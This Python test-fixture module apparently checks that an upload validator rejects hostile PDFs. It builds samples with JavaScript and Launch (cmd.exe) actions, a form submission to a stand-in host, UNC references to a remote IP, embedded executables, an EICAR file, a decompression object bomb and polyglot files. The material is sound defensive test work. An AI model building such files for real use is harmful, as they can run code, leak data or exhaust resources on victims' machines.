"""PDF that act, carry something, or cannot be what they say."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from app.materials.signs import EICAR
from tests.materials.hostile.zips import packed, prefixed

ALERT = String("app.alert(1)")


def pdf(change: Callable[[pikepdf.Pdf], Any] | None = None, **options: Any) -> bytes:
    made, file = pikepdf.new(), BytesIO()
    made.add_blank_page()
    if change:
        change(made)
    made.save(file, **options)
    return file.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=ALERT)


def opening(**action: Any) -> bytes:
    return pdf(lambda made: made.Root.__setattr__("OpenAction", Dictionary(**action)))


def note(**keys: Any) -> bytes:
    """With a note on its page."""
    rectangle = Array([0, 0, 100, 100])

    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Rect=rectangle, **keys)])

    return pdf(change)


def _indirect_name(made: pikepdf.Pdf) -> None:
    word = made.make_indirect(Name.JavaScript)
    made.Root.OpenAction = Dictionary(S=word, JS=ALERT)


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["a.exe"] = b"MZ" + bytes(100)


def _named_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(made, b"<xdp/>"))


def _deep(made: pikepdf.Pdf) -> None:
    inside = Array([1])
    for _ in range(300):
        inside = Array([inside])
    made.Root.Deep = inside


def _chained(made: pikepdf.Pdf) -> None:
    harmless = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([script()]))
    made.pages[0].obj.AA = Dictionary(O=harmless)


def _listed_file(made: pikepdf.Pdf) -> None:
    content = Stream(made, b"MZ")  # it need not say what it is
    made.Root.Kept = Dictionary(EF=Dictionary(F=content), F=String("a.exe"))


def _typed_file(made: pikepdf.Pdf) -> None:
    made.Root.Kept = Stream(made, b"MZ", Type=Name.EmbeddedFile)


def _archive_inside(made: pikepdf.Pdf) -> None:
    made.Root.Kept = Stream(made, packed({"a.exe": b"MZ"}))


def _outside_stream(made: pikepdf.Pdf) -> None:
    made.Root.Outside = Stream(made, b"", F=String("\\\\\\\\10.0.0.1\\\\a"))


def _field_script(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def cases() -> list[tuple[str, bytes, int]]:
    good = pdf()
    file = Dictionary(Type=Name.Filespec, F=String("a.exe"))
    plain = opening(S=Name.JavaScript, JS=ALERT)
    made = {
        "js-saat-dibuka": plain,
        "js-nama-tersamar": plain.replace(b"/JavaScript", b"/J#61vaScrip#74"),
        "js-nama-tak-langsung": pdf(_indirect_name),
        "js-daftar-nama": pdf(_named_script),
        "js-berantai": pdf(_chained),
        "js-di-isian": pdf(_field_script),
        "js-objek-padat": pdf(_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "js-tersandi-kosong": pdf(
            _named_script, encryption=pikepdf.Encryption(owner="x", user="", R=6)
        ),
        "js-alamat": note(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
        ),
        "launch": opening(S=Name.Launch, F=String("cmd.exe")),
        "kirim-formulir": note(
            Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://jahat.test"))
        ),
        "impor-data": opening(S=Name.ImportData, F=String("a.fdf")),
        "buka-berkas-lain": opening(
            S=Name.GoToR, F=String("\\\\\\\\10.0.0.1\\\\a.pdf"), D=Array([0])
        ),
        "buka-lampiran": opening(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a"))),
        "media-putar": opening(S=Name.Rendition, OP=0, JS=ALERT),
        "lampiran": pdf(_attached),
        "lampiran-tanpa-tipe": pdf(_listed_file),
        "lampiran-tanpa-daftar": pdf(_typed_file),
        "zip-di-aliran": pdf(_archive_inside, compress_streams=False),
        "lampiran-catatan": note(Subtype=Name.FileAttachment, FS=file),
        "media-kaya": note(Subtype=Name.RichMedia),
        "objek-3d": note(Subtype=Name("/3D")),
        "film-lama": note(Subtype=Name.Movie),
        "xfa": pdf(_xfa),
        "aliran-luar": pdf(_outside_stream),
        "terlalu-dalam": pdf(_deep),
        "terkunci-sandi": pdf(encryption=pikepdf.Encryption(owner="x", user="rahasia", R=6)),
        "tanpa-halaman": pdf(lambda made: made.pages.__delitem__(0)),
        "bom-objek": object_bomb(),
        "sampah": b"%PDF-1.7\n" + bytes(range(256)) * 20,
        "zip-di-belakang": good + packed({"a.exe": b"MZ"}),
        "zip-mengitari": prefixed(packed({"a.exe": b"MZ"}), good),
        "html-di-belakang": good + b"\n<html><script>alert(1)</script></html>",
        "data-di-belakang": good + bytes([7]) * 5000,
        "eicar-lampiran": pdf(lambda made: made.attachments.__setitem__("e.com", EICAR)),
    }
    others = [(f"{name}.pdf", content, 422) for name, content in made.items()]
    return [
        *others,
        ("html-di-depan.pdf", b"<html><script>alert(1)</script>" + good, 415),
        ("exe-di-depan.pdf", b"MZ" + bytes(100) + good, 415),
    ]


def object_bomb() -> bytes:
    """A stream of 50 kB that unpacks to objects of 50 MB."""
    body = b"2 0 <</A[" + b"<<>>" * 12_000_000 + b"]>>"
    squeezed = zlib.compress(body)
    head = b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    start = head % len(squeezed) + squeezed + b"\nendstream\nendobj\n"
    at = len(start)
    rows = b"".join(
        kind.to_bytes(1, "big") + where.to_bytes(4, "big") + n.to_bytes(1, "big")
        for kind, where, n in [(0, 0, 0), (1, 9, 0), (2, 1, 0), (1, at, 0)]
    )
    table = (
        b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(rows) + rows
    )
    return start + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at
